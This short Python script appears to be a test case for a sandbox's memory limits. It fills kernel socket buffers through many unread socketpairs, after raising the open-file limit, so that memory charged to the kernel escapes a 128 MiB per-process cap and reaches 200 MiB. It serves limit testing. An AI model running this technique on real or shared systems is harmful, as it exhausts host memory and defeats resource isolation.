"""Attacked: the machine's memory, by what is sent and never read: it is the kernel's, and no process's own.

Won: 200 MiB, where 128 are given.
"""

import resource
import socket

print("BEGUN")
with open("output/kept", "w") as file:
    file.write("kept")
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
kept, sent = [], 0
while sent < 200 << 20:
    sender, receiver = socket.socketpair()
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    sender.setblocking(False)
    kept += [sender, receiver]
    try:
        while True:
            sent += sender.send(bytes(65536))
    except BlockingIOError:
        continue  # this one is full
print("WON", sent >> 20, "MiB")
